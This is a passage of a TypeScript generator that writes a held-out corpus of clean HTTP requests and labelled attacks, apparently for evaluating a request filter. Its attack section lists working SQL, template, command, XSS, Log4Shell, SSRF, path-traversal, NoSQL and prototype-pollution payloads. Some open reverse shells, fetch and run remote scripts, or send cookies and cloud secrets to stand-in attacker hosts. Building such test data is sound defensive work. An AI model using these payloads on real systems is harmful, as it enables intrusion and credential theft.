    kind: 'form',
    method: 'POST',
    path: '/oauth/token',
    headers: headers('application/x-www-form-urlencoded'),
    body: q({
      grant_type: 'refresh_token',
      refresh_token: hex(48),
      client_id: 'skipass-mobile',
      scope: 'passes:read lessons:write',
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/walkers/apply',
    headers: headers('application/x-www-form-urlencoded'),
    body: q({
      full_name: pick(NAMES),
      email: 'walker.applicant@example.org',
      phone: '+44 7700 900123',
      about: pick(PROSE),
      experience_years: int(0, 12),
      'sizes[]': 'large',
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/haccp/quick-log',
    headers: headers('application/x-www-form-urlencoded'),
    body: q({
      fridge: `Walk-in ${int(1, 3)}`,
      temp_c: (rnd() * 6).toFixed(1),
      initials: pick(['AK', 'TÓB', 'CB', 'KW']),
      note: pick(NOTES),
    }),
  }),
];

function multipart(): Req {
  const b = `----WebKitFormBoundary${hex(16)}`;
  const variant = int(0, 3);
  const parts: string[] = [];
  if (variant === 0) {
    parts.push(`--${b}\r\nContent-Disposition: form-data; name="thesisId"\r\n\r\n${uuid()}`);
    parts.push(
      `--${b}\r\nContent-Disposition: form-data; name="file"; filename="Thesis_final_v7 (2).pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n%âãÏÓ\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj`,
    );
  } else if (variant === 1) {
    parts.push(
      `--${b}\r\nContent-Disposition: form-data; name="episodeTitle"\r\n\r\n${pick(PODCASTS)} — Ep. ${int(1, 200)}`,
    );
    parts.push(
      `--${b}\r\nContent-Disposition: form-data; name="audio"; filename="ep${int(1, 200)}_master.mp3"\r\nContent-Type: audio/mpeg\r\n\r\nID3\u0004\u0000\u0000\u0000\u0000\u0000#TSSE\u0000\u0000\u0000\u000f\u0000\u0000\u0003Lavf61.7.100`,
    );
  } else if (variant === 2) {
    parts.push(`--${b}\r\nContent-Disposition: form-data; name="passId"\r\n\r\n${hex(10).toUpperCase()}`);
    parts.push(
      `--${b}\r\nContent-Disposition: form-data; name="photo"; filename="IMG_${int(1000, 9999)}.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000\u0001\u0001\u0000\u0000H\u0000H`,
    );
  } else {
    parts.push(`--${b}\r\nContent-Disposition: form-data; name="site"\r\n\r\n${int(1, 40)}`);
    parts.push(
      `--${b}\r\nContent-Disposition: form-data; name="csv"; filename="cooling-log-${date()}.csv"\r\nContent-Type: text/csv\r\n\r\ntime,item,temp_c,initials\n08:00,${pick(FOODS)},61.2,AK\n10:00,${pick(FOODS)},19.8,AK\n14:00,${pick(FOODS)},4.1,CB`,
    );
  }
  return {
    kind: 'multipart',
    method: 'POST',
    path: pick(['/api/theses/upload', '/v1/episodes/upload', '/api/v2/passes/photo', '/haccp/v1/import']),
    headers: headers(`multipart/form-data; boundary=${b}`),
    body: `${parts.join('\r\n')}\r\n--${b}--\r\n`,
  };
}

function ndjson(): Req {
  const variant = int(0, 2);
  const n = int(2, 6);
  const lines = Array.from({ length: n }, () =>
    variant === 0
      ? J({
          pass: hex(10).toUpperCase(),
          lift: pick(LIFTS),
          gate: int(1, 8),
          at: ts(),
          result: pick(['ok', 'ok', 'ok', 'expired', 'passback']),
        })
      : variant === 1
        ? J({
            loadId: int(100000, 999999),
            lat: (30 + rnd() * 15).toFixed(4),
            lon: (-120 + rnd() * 40).toFixed(4),
            speedMph: int(0, 70),
            reeferC: -18 + rnd(),
            at: ts(),
          })
        : J({
            start: rnd() * 3600,
            end: rnd() * 3600,
            speaker: pick(['S1', 'S2', 'S3']),
            text: pick(PROSE),
            confidence: Math.round(rnd() * 100) / 100,
          }),
  );
  return {
    kind: 'ndjson',
    method: 'POST',
    path: pick(['/api/v2/scans/bulk', '/loads/telemetry', '/v1/transcripts/segments:ingest']),
    headers: headers('application/x-ndjson'),
    body: `${lines.join('\n')}\n`,
  };
}

const deletes: (() => Req)[] = [
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/registrar/v1/zones/${encodeURIComponent(pick(DOMAINS))}/records/${hex(16)}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/v2/bookings/${uuid()}?${q({ reason: pick(['weather', 'injury', 'changed plans', 'Krankheit']), refund: 'credit' })}`,
    headers: headers(),
    body: '',
  }),
  () => ({ kind: 'delete', method: 'DELETE', path: `/v1/walks/${uuid()}`, headers: headers(), body: '' }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/council/comments/${int(1000, 99999)}?${q({ moderatorNote: 'duplicate submission' })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/loads/${int(100000, 999999)}`,
    headers: headers(),
    body: '',
  }),
];

const cmsHtmls: (() => Req)[] = [
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/council/meetings/${date()}/items/${int(1, 20)}`,
    headers: headers('application/json'),
    body: J({
      agendaItem: {
        number: int(1, 20),
        title: pick(['Rezoning 1200 Elm St', 'FY2027 Budget', 'Crosswalk on Gambetta', 'Proclamation']),
        section: 'public-hearing',
        bodyHtml: pick(HTMLS),
      },
      publish: rnd() < 0.5,
    }),
  }),
  () => ({
    kind: 'cms-html',
    method: 'POST',
    path: `/api/theses/${uuid()}/abstract`,
    headers: headers('application/json'),
    body: J({ language: pick(['en', 'de', 'fr']), abstractHtml: pick(HTMLS), wordCount: int(150, 350) }),
  }),
];

const codes: (() => Req)[] = [
  () => ({
    kind: 'code',
    method: 'POST',
    path: pick([
      '/registrar/v1/zones/import',
      '/haccp/v1/plans',
      '/v1/pipelines/transcribe',
      '/api/theses/appendix',
    ]),
    headers: headers('application/json'),
    body: J({
      config: {
        language: pick(['zone', 'python', 'sql', 'bash', 'hcl', 'yaml', 'typescript']),
        source: pick(CODES),
      },
      description: pick(NOTES),
    }),
  }),
];

const proses: (() => Req)[] = [
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/v1/dogs/${uuid()}/notes`,
    headers: headers('application/json'),
    body: J({ text: `${pick(PROSE)} ${pick(PROSE)}`, author: pick(NAMES), at: ts() }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/support/tickets',
    headers: headers('application/json'),
    body: J({
      subject: pick([
        'Pass not showing',
        'Walker late',
        'Transcript errors',
        'Zone not propagating',
        'Similarity score too high',
      ]),
      message: `${pick(PROSE)}\n\n${pick(NOTES)}\n\n— ${pick(NAMES)}`,
      markdown: pick(MD),
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/council/meetings/${date()}/comments`,
    headers: headers('application/json'),
    body: J({
      comment: pick(PROSE),
      language: pick(['en', 'fr', 'es', 'de', 'pl', 'zh', 'ar']),
      name: pick(NAMES),
    }),
  }),
];

const searchs: (() => Req)[] = [
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/search?${q({ q: pick(SEARCHES), page: int(1, 5) })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/theses/search?${q({ q: pick(SEARCHES), year: pick([2024, 2025, 2026]), sort: 'relevance' })}`,
    headers: headers(),
    body: '',
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/transcripts/search?${q({ q: `"${pick(SEARCHES)}"`, podcast: pick(PODCASTS), highlight: 'true' })}`,
    headers: headers(),
    body: '',
  }),
];

const KINDS: [readonly (() => Req)[], number][] = [
  [restGets, 60],
  [restWrites, 50],
  [mergePatches, 25],
  [jsonPatches, 25],
  [jsonapis, 25],
  [graphqls, 40],
  [forms, 25],
  [[multipart], 20],
  [[ndjson], 20],
  [deletes, 20],
  [cmsHtmls, 24],
  [codes, 24],
  [proses, 36],
  [searchs, 36],
];

const clean: CorpusRequest[] = [];
for (const [builders, count] of KINDS) {
  for (let i = 0; i < count; i++) clean.push({ id: `h31c${clean.length + 1}`, ...pick(builders)() });
}

// ---------------------------------------------------------------- attacks
type Carrier = (
  p: string,
  field: string,
) => { method: string; path: string; headers: Record<string, string>; body: string; how: string };
/** Escape every non-alphanumeric ASCII character as a JSON \u sequence. */
const uEscape = (s: string): string =>
  s.replace(/[^A-Za-z0-9 ]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

const CARRIERS: Carrier[] = [
  (p, f) => ({
    method: 'POST',
    path: `/loads/${int(100000, 999999)}/notes`,
    headers: headers('application/json'),
    body: J({ load: { shipper: { name: 'Midwest Cold Storage', [f]: p }, notes: pick(NOTES) } }),
    how: 'nested JSON field',
  }),
  (p, f) => ({
    method: 'GET',
    path: `/api/v2/lessons/availability?${q({ date: date(), [f]: p })}`,
    headers: headers(),
    body: '',
    how: 'query string',
  }),
  (p) => ({
    method: 'GET',
    path: `/council/meetings/${date()}/agenda`,
    headers: headers(undefined, {
      [pick(['user-agent', 'referer', 'x-forwarded-for', 'x-api-version', 'x-client-ref'])]: p,
    }),
    body: '',
    how: 'request header',
  }),
  (p, f) => ({
    method: 'POST',
    path: '/graphql',
    headers: headers('application/json'),
    body: J({
      operationName: 'BookWalk',
      query: GQL_Q[1],
      variables: { input: { dogId: uuid(), start: ts(), [f]: p } },
    }),
    how: 'GraphQL variables',
  }),
  (p, f) => ({
    method: 'PUT',
    path: `/v1/dogs/${uuid()}`,
    headers: headers('application/json'),
    body: J({ name: pick(DOGS), [`${f}s`]: ['friendly', p, 'leash-trained'] }),
    how: 'JSON array element',
  }),
  (p, f) => ({
    method: 'POST',
    path: `/haccp/v1/sites/${int(1, 40)}/logs`,
    headers: headers('application/json'),
    body: `{"type":"receiving","item":"${pick(FOODS)}","${f}":"${uEscape(p)}","celsius":3.2}`,
    how: 'JSON \\u-escaped string',
  }),
  (p, f) => ({
    method: 'POST',
    path: `/v1/episodes/${hex(12)}/metadata`,
    headers: headers('application/json'),
    body: J({ podcast: pick(PODCASTS), extra: J({ [f]: p, source: 'rss-import' }) }),
    how: 'JSON encoded inside a string field',
  }),
  (p, f) => ({
    method: 'POST',
    path: '/api/theses/metadata',
    headers: headers('application/json'),
    body: J({
      thesisId: uuid(),
      attachment: { encoding: 'base64', field: f, content: Buffer.from(p).toString('base64') },
    }),
    how: 'base64 field decoded by the API',
  }),
  (p, f) => ({
    method: 'POST',
    path: '/council/comments/submit',
    headers: headers('application/x-www-form-urlencoded'),
    body: q({ name: pick(NAMES), item: int(1, 20), [f]: p }),
    how: 'form field',
  }),
  (p, f) => ({
    method: 'POST',
    path: '/loads/telemetry',
    headers: headers('application/x-ndjson'),
    body: `${J({ loadId: int(100000, 999999), speedMph: 55 })}\n${J({ loadId: int(100000, 999999), [f]: p })}\n`,
    how: 'NDJSON line',
  }),
  (p, f) => ({
    method: 'PATCH',
    path: `/registrar/v1/zones/${encodeURIComponent(pick(DOMAINS))}/records/${hex(16)}`,
    headers: headers('application/json-patch+json'),
    body: J([{ op: 'replace', path: `/${f}`, value: p }]),
    how: 'JSON Patch value',
  }),
  (p, f) => ({
    method: 'POST',
    path: '/jsonapi/walk-reviews',
    headers: headers('application/vnd.api+json'),
    body: J({ data: { type: 'walk-reviews', attributes: { stars: 5, [f]: p } } }),
    how: 'JSON:API attribute',
  }),
];

const STRING_FAMILIES: Record<string, { fields: string[]; payloads: [string, string][] }> = {
  sql: {
    fields: ['sort', 'reference', 'lane', 'filter', 'orderBy'],
    payloads: [
      ["' OR '1'='1' -- ", 'tautology with comment'],
      ["1' UNION SELECT username,password_hash,NULL FROM users--", 'union select'],
      ['rate_per_mile DESC; DROP TABLE loads;--', 'stacked query in sort'],
      ["x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -", 'time-based blind sleep'],
      ['1 AND 1=CAST((SELECT version()) AS int)', 'error-based cast'],
      [
        "'/**/UnIoN/**/SeLeCt/**/table_name,2/**/FrOm/**/information_schema.tables#",
        'inline comments and mixed case',
      ],
      ["1';WAITFOR DELAY '0:0:7'--", 'MSSQL waitfor'],
      ["admin'||(SELECT CHR(65)||pg_sleep(4))||'", 'postgres concatenation pg_sleep'],
      ['1 or extractvalue(1,concat(0x7e,(select user())))', 'extractvalue error'],
      ["') OR 1=1 LIMIT 1 OFFSET 0 -- ", 'paren break-out'],
    ],
  },
  template: {
    fields: ['subjectTemplate', 'greeting', 'title', 'signature', 'label'],
    payloads: [
      ['{{7*7}}{{config.items()}}', 'jinja2 config dump'],
      ["{{ ''.__class__.__mro__[1].__subclasses__() }}", 'jinja2 mro subclasses'],
      ["${T(java.lang.Runtime).getRuntime().exec('id')}", 'spring EL runtime exec'],
      ['<%= system("cat /etc/passwd") %>', 'ERB system'],
      [
        '{{constructor.constructor("return process")().mainModule.require("child_process").execSync("id")}}',
        'handlebars/angular constructor chain',
      ],
      ['#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("whoami"))$x', 'velocity runtime'],
      ['${"freemarker.template.utility.Execute"?new()("id")}', 'freemarker Execute'],
      [
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        'jinja2 globals import os',
      ],
      ['{% import os %}{{ os.system("uname -a") }}', 'tornado import'],
      [
        '*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec("id").getInputStream())}',
        'thymeleaf selection expression',
      ],
    ],
  },
  command: {
    fields: ['hostname', 'filename', 'codec', 'lookup', 'ffmpegArgs'],
    payloads: [
      ['example.com; cat /etc/passwd', 'semicolon chaining'],
      ['ep41.mp3 && curl -s http://203.0.113.9/x.sh | sh', 'and-chain download pipe to sh'],
      ['$(wget -qO- http://198.51.100.7/p|bash)', 'command substitution'],
      ['`id`', 'backtick substitution'],
      ['8.8.8.8|nc -e /bin/sh 203.0.113.5 4444', 'pipe to netcat reverse shell'],
      ['x;${IFS}cat${IFS}/etc/shadow', 'IFS space evasion'],
      ['a.wav\nrm -rf /tmp/*', 'newline injection'],
      [
        '-i x.mp3 -f lavfi -i "movie=/etc/passwd" ; bash -i >& /dev/tcp/203.0.113.5/9001 0>&1',
        'bash dev tcp reverse shell',
      ],
      ['||powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA', 'powershell encoded'],
      ["host$(printf '\\x3b')id", 'printf hex separator'],
    ],
  },
  xss: {
    fields: ['displayName', 'bio', 'caption', 'comment', 'dogName'],
    payloads: [
      ['<script>fetch("https://evil.example/c?"+document.cookie)</script>', 'script tag cookie exfil'],
      ['<img src=x onerror=alert(document.domain)>', 'img onerror'],
      ['"><svg/onload=confirm(1)>', 'attribute break-out svg onload'],
      ['javascript:alert(1)//', 'javascript URL'],
      ['<iframe srcdoc="<script>parent.alert(1)</script>">', 'iframe srcdoc'],
      ['<details open ontoggle=eval(atob("YWxlcnQoMSk="))>', 'details ontoggle base64 eval'],
      ['<a href="jav&#x09;ascript:alert(1)">walk</a>', 'entity-split javascript href'],
      ['<ScRiPt src=//evil.example/x.js></sCrIpT>', 'mixed-case external script'],
      ["'-alert(1)-'", 'JS string context break'],
      ['<body onpageshow=alert`1`>', 'body event with template call'],
    ],
  },
  log4shell: {
    fields: ['deviceId', 'walkerNote', 'username', 'trackingRef', 'locale'],
    payloads: [
      ['${jndi:ldap://203.0.113.10:1389/a}', 'plain jndi ldap'],
      ['${${lower:j}ndi:${lower:l}dap://evil.example/x}', 'lower lookup obfuscation'],
      ['${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.3/o}', 'default-value split'],
      ['${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.evil.example}', 'env exfil over a DNS lookup'],
      ['${${upper:j}${upper:n}${upper:d}${upper:i}:ldaps://evil.example/a}', 'upper lookup ldaps'],
      ['${j${k8s:k5:-ND}i:ldap://evil.example/z}', 'k8s lookup default'],
      ['${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/b}', 'protocol split'],
      ['${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/c}', 'env default obfuscation'],
      ['${jndi:iiop://198.51.100.9/x}', 'iiop protocol'],
      ['%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fd%7D', 'percent-encoded inside value'],
    ],
  },
  ssrf: {
    fields: ['webhookUrl', 'feedUrl', 'callbackUrl', 'avatarUrl', 'importFrom'],
    payloads: [
      ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'AWS metadata'],
      [
        'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
        'GCP metadata',
      ],
      ['http://[::ffff:a9fe:a9fe]/latest/meta-data/', 'IPv6-mapped metadata'],
      ['http://2852039166/latest/user-data', 'decimal IP'],
      ['http://0x7f000001:6379/', 'hex loopback redis'],
      ['gopher://127.0.0.1:6379/_SET%20x%20pwn', 'gopher redis'],
      ['file:///etc/passwd', 'file scheme'],
      ['http://rss.pod.fm@127.0.0.1:8080/admin', 'userinfo confusion'],
      ['http://localtest.me:2375/containers/json', 'DNS to loopback docker API'],
      ['http://[fd00:ec2::254]/latest/meta-data/', 'AWS IPv6 metadata'],
    ],
  },
  'path-traversal': {
    fields: ['file', 'template', 'exportPath', 'attachment', 'audioKey'],
    payloads: [
      ['../../../../etc/passwd', 'dot-dot-slash'],
      ['..%2f..%2f..%2fetc%2fshadow', 'encoded slash'],
      ['....//....//....//etc/hosts', 'nested strip evasion'],
      ['..\\..\\..\\windows\\win.ini', 'backslash windows'],
      ['%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron', 'fully encoded proc environ'],
      ['/var/www/uploads/../../../root/.ssh/id_rsa', 'absolute prefix then traversal'],
      ['..%252f..%252f..%252fetc%252fpasswd', 'double encoding'],
      ['..%c0%af..%c0%afetc/passwd', 'overlong UTF-8'],
      ['theses/2026/../../../../app/.env', 'traversal to dotenv'],
      ['file:///../../etc/passwd%00.pdf', 'null-byte extension'],
    ],
  },
};

const attacks: CorpusRequest[] = [];
let aid = 0;
for (const [family, spec] of Object.entries(STRING_FAMILIES)) {
  spec.payloads.forEach(([payload, technique], j) => {
    for (let k = 0; k < 3; k++) {
      const carrier = CARRIERS[(j * 3 + k + family.length) % CARRIERS.length];
      if (!carrier) throw new Error('carrier');
      let r = carrier(payload, spec.fields[(j + k) % spec.fields.length] ?? 'value');
      if (family === 'path-traversal' && k === 2) {
        const enc = payload.includes('%') ? payload : payload.replace(/\//g, '%2F');
        r = {
          method: 'GET',
          path: `/v1/episodes/${hex(12)}/audio/${enc}`,
          headers: headers(),
          body: '',
          how: 'URL path segment',
        };
      }
      if (r.how === 'request header' && /[\r\n]/.test(payload)) {
        r = { ...r, headers: { ...r.headers, 'x-client-ref': payload.replace(/\n/g, '%0a') } };
        for (const h of ['user-agent', 'referer', 'x-forwarded-for', 'x-api-version']) {
          const v = r.headers[h];
          if (v?.includes(payload)) r.headers[h] = 'okhttp/4.12.0';
        }
      }
      attacks.push({
        id: `h31a${++aid}`,
        kind: 'attack',
        family,
        technique: `${technique} via ${r.how}`,
        method: r.method,
        path: r.path,
        headers: r.headers,
        body: r.body,
      });
    }
  });
}

// NoSQL: operator objects in filters, JSON-in-string, bracket query syntax.
const NOSQL: [unknown, string][] = [
  [{ $ne: null }, '$ne null'],
  [{ $gt: '' }, '$gt empty string'],
  [{ $regex: '^.*', $options: 'si' }, '$regex match-all'],
  [{ $where: 'sleep(5000) || true' }, '$where sleep'],
  [{ $where: 'function(){return this.role=="admin"}' }, '$where function'],
  [{ $in: ['admin', 'root', 'superuser'] }, '$in privileged roles'],
  [{ $nin: [] }, '$nin empty'],
  [{ $expr: { $eq: [1, 1] } }, '$expr always true'],
  [{ $function: { body: 'function(){return true}', args: [], lang: 'js' } }, '$function js'],
  [{ $or: [{ email: { $exists: true } }, { _id: { $ne: 0 } }] }, '$or exists'],
];
NOSQL.forEach(([op, technique], j) => {
  const opKey = Object.keys(op as object)[0] ?? '$ne';
  const opVal = (op as Record<string, unknown>)[opKey];
  const variants: {
    method: string;
    path: string;
    headers: Record<string, string>;
    body: string;
    how: string;
  }[] = [
    {
      method: 'POST',
      path: '/v1/auth/login',
      headers: headers('application/json'),
      body: J({ email: 'walker.applicant@example.org', password: op }),
      how: 'login password object',
    },
    {
      method: 'POST',
      path: '/loads/search',
      headers: headers('application/json'),
      body: J({ filter: { carrier: { mc: op } }, page: 1 }),
      how: 'nested filter object',
    },
    {
      method: 'GET',
      path: `/jsonapi/theses?${encodeURIComponent(`filter[author][${opKey}]`)}=${encodeURIComponent(typeof opVal === 'string' ? opVal : J(opVal))}`,
      headers: headers(),
      body: '',
      how: 'bracket query operator',
    },
    {
      method: 'POST',
      path: '/graphql',
      headers: headers('application/json'),
      body: J({ query: GQL_Q[0], variables: { lane: { origin: op, destination: pick(CITIES) } } }),
      how: 'GraphQL variables',
    },
    {
      method: 'POST',
      path: '/council/comments/export',
      headers: headers('application/json'),
      body: J({ query: J({ status: op }) }),
      how: 'JSON query inside a string',
    },
    {
      method: 'POST',
      path: `/api/v2/passes/lookup`,
      headers: headers('application/json'),
      body: `{"passId":{"${uEscape(opKey)}":${J(opVal)}}}`,
      how: '\\u-escaped operator key',
    },
  ];
  for (let k = 0; k < 3; k++) {
    const r = variants[(j + k * 2) % variants.length];
    if (!r) throw new Error('variant');
    attacks.push({
      id: `h31a${++aid}`,
      kind: 'attack',
      family: 'nosql',
      technique: `${technique} via ${r.how}`,
      method: r.method,
      path: r.path,
      headers: r.headers,
      body: r.body,
    });
  }
});

// Prototype pollution: dangerous keys in bodies, patches and query strings.
const PROTO: [string, string][] = [
  ['{"__proto__":{"isAdmin":true}}', '__proto__ top-level'],
  ['{"constructor":{"prototype":{"role":"admin"}}}', 'constructor.prototype'],
  ['{"settings":{"__proto__":{"polluted":"yes"}}}', 'nested __proto__'],
  ['{"\\u005f\\u005fproto\\u005f\\u005f":{"debug":true}}', '\\u-escaped __proto__ key'],
  ['{"dog":{"constructor":{"prototype":{"shell":"/bin/sh"}}}}', 'nested constructor.prototype shell'],
  [
    '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
    'ejs gadget',
  ],
  ['{"a":1,"__proto__":{"allowedHosts":["*"]}}', '__proto__ after benign key'],
  ['{"prefs":[{"__proto__":{"toString":"x"}}]}', '__proto__ inside array'],
  ['{"__pro\\u0074o__":{"status":401}}', 'partially escaped __proto__'],
  ['{"meta":{"constructor":{"prototype":{"NODE_OPTIONS":"--require /tmp/x.js"}}}}', 'NODE_OPTIONS gadget'],
];
const PP_PATCH = [
  '/__proto__/isAdmin',
  '/constructor/prototype/role',
  '/meta/__proto__/polluted',
  '/items/0/constructor/prototype/debug',
  '/settings/__proto__/allowedHosts',
];
const PP_QUERY = [
  '__proto__[isAdmin]=true',
  'constructor[prototype][role]=admin',
  'filter[__proto__][allowAll]=1',
  '__proto__.polluted=yes',
  'sort[constructor][prototype][toString]=1',
  'opts%5B__proto__%5D%5Bdebug%5D=true',
];
PROTO.forEach(([raw, technique], j) => {
  const variants: {
    method: string;
    path: string;
    headers: Record<string, string>;
    body: string;
    how: string;
  }[] = [
    {
      method: 'PATCH',
      path: `/v1/dogs/${uuid()}`,
      headers: headers('application/merge-patch+json'),
      body: raw,
      how: 'merge-patch body',
    },
    {
      method: 'POST',
      path: `/api/v2/bookings/lessons`,
      headers: headers('application/json'),
      body: `{"resort":"${pick(RESORTS)}","date":"${date()}","options":${raw}}`,
      how: 'nested options object',
    },
    {
      method: 'PATCH',
      path: `/haccp/v1/logs/${uuid()}`,
      headers: headers('application/json-patch+json'),
      body: J([{ op: 'add', path: PP_PATCH[j % PP_PATCH.length] ?? '/__proto__/x', value: true }]),
      how: `JSON Patch path ${PP_PATCH[j % PP_PATCH.length]}`,
    },
    {
      method: 'GET',
      path: `/loads?${PP_QUERY[j % PP_QUERY.length]}&equipment=reefer`,
      headers: headers(),
      body: '',
      how: `bracket query string ${PP_QUERY[j % PP_QUERY.length]}`,
    },
    {
      method: 'POST',
      path: '/jsonapi/walk-reviews',
      headers: headers('application/vnd.api+json'),
      body: `{"data":{"type":"walk-reviews","attributes":${raw}}}`,
      how: 'JSON:API attributes',
    },
    {
      method: 'POST',
      path: '/v1/episodes/import',
      headers: headers('application/json'),
      body: J({ podcast: pick(PODCASTS), settings: raw }),
      how: 'JSON inside a string',
    },
  ];
  for (let k = 0; k < 3; k++) {
    const r = variants[(j + k * 2 + (k === 2 ? 1 : 0)) % variants.length];
    if (!r) throw new Error('variant');
    attacks.push({
      id: `h31a${++aid}`,
      kind: 'attack',
      family: 'prototype-pollution',
      technique: /^(JSON Patch path|bracket query string) /.test(r.how) ? r.how : `${technique} via ${r.how}`,
      method: r.method,
      path: r.path,
      headers: r.headers,
      body: r.body,
    });
  }
});

/** Held-out corpus 31: clean traffic and attacks, deterministic. */
export const heldout31: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const here = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(here, 'clean-heldout31.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(here, 'attacks-heldout31.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  const count = (xs: CorpusRequest[], key: 'kind' | 'family'): Record<string, number> => {
    const out: Record<string, number> = {};
    for (const x of xs) {
      const k = x[key] ?? '?';
      out[k] = (out[k] ?? 0) + 1;
    }
    return out;
  };
  console.log(`clean: ${clean.length}`, count(clean, 'kind'));
  console.log(`attacks: ${attacks.length}`, count(attacks, 'family'));
}
